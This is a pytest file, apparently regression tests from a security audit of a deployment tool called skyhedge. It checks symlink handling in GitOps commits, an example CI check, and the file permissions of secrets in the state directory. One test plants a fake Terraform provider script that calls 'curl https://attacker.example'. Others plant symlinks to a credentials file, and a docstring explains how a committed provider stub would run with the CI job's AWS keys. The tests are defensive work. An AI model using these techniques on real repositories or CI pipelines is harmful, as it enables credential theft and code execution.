"""Where untrusted bytes cross into skyhedge's files (a security audit's findings): a link merged
into a GitOps checkout is never followed into the tree or a commit, the example CI refuses what
would run or leak in its apply job, and the state dir's copies of `run.env` are the owner's only.
"""

from __future__ import annotations

import os
import stat
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from controller_fakes import Clock, FakeSource
from local_support import make_service
from test_controller_gitops import REGIONS
from test_gitops_commits import git

from skyhedge.apply import Workspace, apply_service
from skyhedge.controller.gitops import GitOpsExecutor
from skyhedge.controller.loop import Controller, ControllerOptions
from skyhedge.events import PreemptionEvent, Signal
from skyhedge.render import render_tree, write_tree
from skyhedge.spec import load_spec

REPO = Path(__file__).resolve().parents[1]
SECRET = "sk-live-7f3a-not-for-the-repository"


@pytest.fixture
def umask_022():
    """The usual umask, whatever the test runner's: the findings are about what it gives."""
    old = os.umask(0o022)
    yield
    os.umask(old)


@pytest.fixture
def secret_file(tmp_path: Path) -> Path:
    """A file of the machine that must never reach a tree or a commit (a cloud credentials file)."""
    path = tmp_path / "home" / ".aws" / "credentials"
    path.parent.mkdir(parents=True)
    path.write_text(f"[default]\naws_secret_access_key = {SECRET}\n")
    return path


def holding(root: Path, text: str) -> list[Path]:
    """The regular files under `root` (links not followed) whose bytes hold `text`."""
    return [
        p for p in root.rglob("*") if p.is_file() and not p.is_symlink() and text.encode() in p.read_bytes()
    ]


# --- a link among the Terraform files a re-render carries over --------------------------------


def test_a_link_among_terraforms_own_files_is_carried_as_the_link_never_as_what_it_points_to(
    tmp_path, secret_file
):
    from test_render_tree import CTX, MULTI, TYPES, spec_of

    spec = spec_of(clouds=("aws", "gcp"))
    out = tmp_path / "infra"
    write_tree(render_tree(spec, MULTI, context=CTX, instance_types=TYPES), out)
    root = out / "aws" / "us-east-1"
    for name in (".terraform.lock.hcl", "terraform.tfstate"):  # both carried over by a re-render
        (root / name).symlink_to(secret_file)
    write_tree(render_tree(spec, MULTI, context=CTX, instance_types=TYPES), out)
    for name in (".terraform.lock.hcl", "terraform.tfstate"):
        assert (root / name).is_symlink() and os.readlink(root / name) == str(secret_file)
    assert holding(out, SECRET) == []  # was: both, as regular files holding the credentials


def test_a_link_merged_into_the_gitops_tree_never_commits_the_file_it_points_to(
    tmp_path, secret_file, write_spec
):
    repo = tmp_path / "repo"
    repo.mkdir()
    git(repo, "init", "-q", "-b", "main")
    spec_path = write_spec(REGIONS)
    clock = Clock(1_700_000_000.0)
    spec = load_spec(spec_path)
    ctl = Controller(
        spec,
        repo / "state",
        executor=GitOpsExecutor(spec, repo / "state", repo, clock=clock),
        sources=[FakeSource()],
        clock=clock,
        options=ControllerOptions(assume_ready=True),
    )
    ctl.tick()
    # a pull request merged and pulled into the watcher's working copy: one innocent-looking link
    lock = repo / "infra" / "aws" / "us-east-1" / ".terraform.lock.hcl"
    lock.symlink_to(secret_file)
    git(repo, "add", str(lock))
    git(repo, "commit", "-qm", "pin providers")
    clock.advance(60)
    victim = next(r for r in ctl.state.live() if r.region == "us-east-1")
    ctl.sources[0].queue.append(  # type: ignore[attr-defined]
        PreemptionEvent(Signal.GONE, clock(), "fake", replica_id=victim.id, reason="preempted")
    )
    ctl.tick()  # re-renders the tree and commits it
    assert "replace preempted" in git(repo, "log", "-1", "--format=%s")
    found = subprocess.run(["git", "-C", str(repo), "grep", "-q", SECRET, "HEAD"], check=False)
    assert found.returncode == 1  # was 0: the credentials committed as infra/.../.terraform.lock.hcl
    mode = git(repo, "ls-tree", "HEAD", "infra/aws/us-east-1/.terraform.lock.hcl").split()[0]
    assert mode == "120000"  # still the link that was merged


# --- the example CI's pull-request check ------------------------------------------------------


def _check_step() -> str:
    workflow = yaml.safe_load(
        (REPO / "examples" / "gitops" / ".github" / "workflows" / "skyhedge.yml").read_text()
    )
    [step] = [s for s in workflow["jobs"]["check"]["steps"] if "skyhedge render" in s.get("run", "")]
    return step["run"]


@pytest.fixture
def checkout(tmp_path: Path) -> tuple[Path, dict[str, str]]:
    """The example repository as CI checks it out (tree committed by `render`), and an environment
    whose `skyhedge` is this checkout's."""
    repo = tmp_path / "checkout"
    repo.mkdir()
    (repo / "service.yaml").write_text((REPO / "examples" / "gitops" / "service.yaml").read_text())
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    shim = bin_dir / "skyhedge"
    shim.write_text(f'#!/bin/sh\nexec {sys.executable} -m skyhedge "$@"\n')
    shim.chmod(0o755)
    runner_temp = tmp_path / "runner-temp"
    runner_temp.mkdir()
    env = {
        **os.environ,
        "PATH": f"{bin_dir}{os.pathsep}{os.environ['PATH']}",
        "PYTHONPATH": str(REPO),
        "RUNNER_TEMP": str(runner_temp),
    }
    subprocess.run(
        ["skyhedge", "render", "service.yaml", "--state-dir", "state", "--out", "infra"],
        cwd=repo,
        env=env,
        check=True,
        capture_output=True,
    )
    return repo, env


def _run_check(repo: Path, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        ["bash", "-e", "-c", _check_step()], cwd=repo, env=env, capture_output=True, text=True, check=False
    )


def test_the_example_ci_check_passes_a_rendered_tree_and_a_committed_lock_file(checkout):
    repo, env = checkout
    assert _run_check(repo, env).returncode == 0
    [root] = [p for p in (repo / "infra" / "aws").iterdir() if p.is_dir()]
    (root / ".terraform.lock.hcl").write_text('provider "registry.terraform.io/hashicorp/aws" {}\n')
    done = _run_check(repo, env)
    assert done.returncode == 0, done.stderr


def test_the_example_ci_check_refuses_a_committed_terraform_folder_the_apply_job_would_run(checkout):
    """Terraform runs a provider it finds in `.terraform/providers` whose hash the lock file
    records (measured: a shell script standing in for the AWS provider, committed with such a lock
    file, ran at `terraform plan` with the job's AWS keys in its environment): a pull request
    could ship both, and the check excluded `.terraform` from its diff."""
    repo, env = checkout
    [root] = [p for p in (repo / "infra" / "aws").iterdir() if p.is_dir()]
    binary = root / ".terraform" / "providers" / "registry.terraform.io" / "hashicorp" / "aws"
    binary.mkdir(parents=True)
    (binary / "terraform-provider-aws").write_text("#!/bin/sh\ncurl https://attacker.example\n")
    done = _run_check(repo, env)
    assert done.returncode != 0 and ".terraform" in done.stdout + done.stderr


@pytest.mark.parametrize("where", ["infra/aws/{region}/.terraform.lock.hcl", "state/tf"])
def test_the_example_ci_check_refuses_a_symbolic_link(checkout, secret_file, where):
    repo, env = checkout
    [root] = [p for p in (repo / "infra" / "aws").iterdir() if p.is_dir()]
    link = repo / where.format(region=root.name)
    link.parent.mkdir(parents=True, exist_ok=True)
    link.symlink_to(secret_file)
    done = _run_check(repo, env)
    assert done.returncode != 0 and "symbolic links" in done.stderr


# --- run.env in the state dir ------------------------------------------------------------------


def _readable_by_others(path: Path, top: Path) -> bool:
    """Whether another account can read `path`: every folder from `top` down lets it through
    and the file lets it read."""
    for folder in [top, *reversed(path.relative_to(top).parents[:-1])]:
        here = folder if folder == top else top / folder
        if not here.stat().st_mode & stat.S_IXOTH:
            return False
    return bool(path.stat().st_mode & stat.S_IROTH)


@pytest.fixture
def svc(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    service = make_service(tmp_path, "secret-env", replicas=1)
    yield service
    service.cleanup()


def test_the_state_dirs_copies_of_run_env_are_readable_by_the_owner_only(svc, umask_022):
    spec = load_spec(svc.write(replicas=1, env={"HF_TOKEN": SECRET}))
    report = apply_service(spec, svc.state_dir, route=False, wait=False)
    assert report.ok, report.errors
    files = holding(svc.state_dir, SECRET)
    assert files  # the tfvars of the local root, at least
    assert [p for p in files if _readable_by_others(p, svc.state_dir)] == []  # was: all of them
    tf = Workspace(spec, svc.state_dir).tf_dir
    assert stat.S_IMODE(tf.stat().st_mode) == 0o700
    # a tf/ an older skyhedge made with the umask's 0755 is narrowed at the next apply
    tf.chmod(0o755)
    assert apply_service(spec, svc.state_dir, route=False, wait=False).ok
    assert stat.S_IMODE(tf.stat().st_mode) == 0o700
    # what other tools read stays as the umask makes it: the state, nginx's and the replicas' files
    assert stat.S_IMODE((svc.state_dir / "state.json").stat().st_mode) == 0o644
